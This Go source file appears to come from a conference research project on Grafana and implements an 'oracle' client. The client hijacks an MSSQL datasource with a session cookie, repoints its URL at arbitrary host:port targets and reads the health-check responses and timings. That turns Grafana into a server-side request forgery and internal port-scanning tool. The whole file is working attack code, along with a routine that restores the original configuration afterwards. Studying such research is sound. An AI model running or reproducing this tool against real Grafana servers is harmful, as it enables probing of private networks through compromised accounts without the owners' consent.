// Package oracle drives a hijacked Grafana MSSQL datasource as a
// connect oracle: point it at host:port, run its health check, and hand
// back what came out.
package oracle

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"time"

	"github.com/scadastrangelove/zeronights2025-GRAFUNA/pkg/defaults"
	"github.com/scadastrangelove/zeronights2025-GRAFUNA/pkg/duration"
	"github.com/scadastrangelove/zeronights2025-GRAFUNA/pkg/iohelper"
	"github.com/scadastrangelove/zeronights2025-GRAFUNA/pkg/jsonutil"
	"github.com/scadastrangelove/zeronights2025-GRAFUNA/pkg/session"
	"github.com/scadastrangelove/zeronights2025-GRAFUNA/pkg/verdict"
)

// CredentialSource supplies the session cookie and datasource version.
// *session.Manager implements it.
type CredentialSource interface {
	Current() session.Credential
	NextVersion() session.Credential
	CookieName() string
}

// Config configures a Client.
type Config struct {
	Target   Target
	OrgID    int    // X-Grafana-Org-Id, default defaults.OrgID
	PluginID string // X-Plugin-Id, default defaults.PluginID
	Identity Identity

	// ProbeTimeout bounds one health check (default duration.ProbeTimeout).
	ProbeTimeout time.Duration

	Logger *slog.Logger
}

// Client talks to one datasource. Calls must not overlap: every probe
// depends on the URL the preceding Reconfigure wrote.
type Client struct {
	http   *http.Client
	creds  CredentialSource
	cfg    Config
	header http.Header
	logger *slog.Logger

	mu sync.Mutex
	ds *Datasource
}

// New creates a client for cfg.Target.
func New(client *http.Client, creds CredentialSource, cfg Config) *Client {
	if cfg.OrgID == 0 {
		cfg.OrgID = defaults.OrgID
	}
	if cfg.PluginID == "" {
		cfg.PluginID = defaults.PluginID
	}
	if cfg.ProbeTimeout <= 0 {
		cfg.ProbeTimeout = duration.ProbeTimeout
	}
	logger := cfg.Logger
	if logger == nil {
		logger = slog.Default()
	}

	return &Client{
		http:   client,
		creds:  creds,
		cfg:    cfg,
		header: cfg.Identity.Header(cfg.Target, cfg.OrgID),
		logger: logger,
	}
}

// Header returns a copy of the identity headers the client sends.
func (c *Client) Header() http.Header { return c.header.Clone() }

// Datasource returns a copy of the last-known config, or nil.
func (c *Client) Datasource() *Datasource {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ds.Clone()
}

// Adopt sets the config that Reconfigure rewrites.
func (c *Client) Adopt(ds *Datasource) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.ds = ds.Clone()
}

func (c *Client) apiURL(path string) string {
	return c.cfg.Target.BaseURL + path
}

func (c *Client) newRequest(ctx context.Context, method, path string, body []byte) (*http.Request, error) {
	var req *http.Request
	var err error
	if body != nil {
		req, err = http.NewRequestWithContext(ctx, method, c.apiURL(path), bytes.NewReader(body))
	} else {
		req, err = http.NewRequestWithContext(ctx, method, c.apiURL(path), nil)
	}
	if err != nil {
		return nil, err
	}
	for k, v := range c.header {
		req.Header[k] = append([]string(nil), v...)
	}
	req.Header.Set("Accept", defaults.AcceptGrafanaAPI)
	if body != nil {
		req.Header.Set("Content-Type", defaults.ContentTypeJSON)
	}
	req.AddCookie(&http.Cookie{Name: c.creds.CookieName(), Value: c.creds.Current().Token})
	return req, nil
}

// Lookup fetches the datasource by UID and adopts it as the last-known
// config.
func (c *Client) Lookup(ctx context.Context) (*Datasource, error) {
	path := "/api/datasources/uid/" + url.PathEscape(c.cfg.Target.UID)
	req, err := c.newRequest(ctx, http.MethodGet, path, nil)
	if err != nil {
		return nil, fmt.Errorf("%w: %w", ErrLookup, err)
	}

	resp, err := c.http.Do(req)
	if err != nil {
		return nil, fmt.Errorf("%w: %w", ErrLookup, err)
	}
	body, err := iohelper.ReadBody(resp.Body, iohelper.DefaultMaxBodySize)
	iohelper.DrainAndClose(resp.Body)
	if err != nil {
		return nil, fmt.Errorf("%w: read body: %w", ErrLookup, err)
	}
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("%w: status %d: %s", ErrLookup, resp.StatusCode, iohelper.Snippet(string(body), defaults.EvidenceMax))
	}

	ds, err := ParseDatasource(body)
	if err != nil {
		return nil, fmt.Errorf("%w: decode: %w", ErrLookup, err)
	}
	if ds.ID == 0 {
		return nil, fmt.Errorf("%w: response carried no datasource id", ErrLookup)
	}
	if ds.Type != c.cfg.PluginID {
		c.logger.WarnContext(ctx, "datasource type differs from probe plugin",
			slog.String("type", ds.Type), slog.String("plugin", c.cfg.PluginID))
	}

	c.logger.DebugContext(ctx, "datasource looked up",
		slog.Int64("id", ds.ID), slog.String("name", ds.Name),
		slog.String("url", ds.URL), slog.Int64("version", ds.Version))

	c.Adopt(ds)
	return ds.Clone(), nil
}

// Reconfigure points the datasource at host:port by writing the full
// last-known config with only the URL changed. Any failure wraps
// ErrReconfigure; nothing is retried.
func (c *Client) Reconfigure(ctx context.Context, host string, port int) error {
	c.mu.Lock()
	if c.ds == nil {
		c.mu.Unlock()
		return fmt.Errorf("%w: %w", ErrReconfigure, ErrNoDatasource)
	}
	ds := c.ds.Clone()
	c.mu.Unlock()

	ds.URL = net.JoinHostPort(host, strconv.Itoa(port))
	return c.write(ctx, ds)
}

// Restore writes a previously saved config back unchanged, apart from the
// version.
func (c *Client) Restore(ctx context.Context, saved *Datasource) error {
	if saved == nil {
		return fmt.Errorf("%w: %w", ErrReconfigure, ErrNoDatasource)
	}
	return c.write(ctx, saved.Clone())
}

func (c *Client) write(ctx context.Context, ds *Datasource) error {
	ds.Version = c.creds.NextVersion().Version

	payload, err := jsonutil.Marshal(ds)
	if err != nil {
		return fmt.Errorf("%w: encode: %w", ErrReconfigure, err)
	}

	path := "/api/datasources/uid/" + url.PathEscape(ds.UID)
	if ds.ID != 0 {
		path = "/api/datasources/" + strconv.FormatInt(ds.ID, 10)
	}
	req, err := c.newRequest(ctx, http.MethodPut, path, payload)
	if err != nil {
		return fmt.Errorf("%w: %w", ErrReconfigure, err)
	}

	resp, err := c.http.Do(req)
	if err != nil {
		return fmt.Errorf("%w: %w", ErrReconfigure, err)
	}
	body, _ := iohelper.ReadBodySmall(resp.Body)
	iohelper.DrainAndClose(resp.Body)

	if resp.StatusCode < 200 || resp.StatusCode > 299 {
		return fmt.Errorf("%w: status %d: %s", ErrReconfigure, resp.StatusCode, iohelper.Snippet(string(body), defaults.EvidenceMax))
	}

	var ur updateResponse
	if err := jsonutil.Unmarshal(body, &ur); err == nil && ur.Datasource != nil {
		c.logger.DebugContext(ctx, "datasource updated",
			slog.String("url", ds.URL), slog.Int64("version", ur.Datasource.Version))
	}
	return nil
}

// Probe runs the datasource health check under the probe timeout and
// records what happened. It never fails: transport errors, including the
// timeout itself, are part of the observation.
func (c *Client) Probe(ctx context.Context) verdict.Observation {
	ctx, cancel := context.WithTimeout(ctx, c.cfg.ProbeTimeout)
	defer cancel()

	uid := c.cfg.Target.UID
	req, err := c.newRequest(ctx, http.MethodGet, "/api/datasources/uid/"+url.PathEscape(uid)+"/health", nil)
	if err != nil {
		return verdict.Observation{Err: err}
	}
	req.Header.Set("X-Datasource-Uid", uid)
	req.Header.Set("X-Plugin-Id", c.cfg.PluginID)
	req.Header.Set("X-Grafana-Nocache", "true")

	start := time.Now()
	resp, err := c.http.Do(req)
	if err != nil {
		return verdict.Observation{Elapsed: time.Since(start), Err: err}
	}
	body, err := iohelper.ReadBodySmall(resp.Body)
	elapsed := time.Since(start)
	iohelper.DrainAndClose(resp.Body)

	return verdict.Observation{
		Status:  resp.StatusCode,
		Body:    string(body),
		Elapsed: elapsed,
		Err:     err,
	}
}
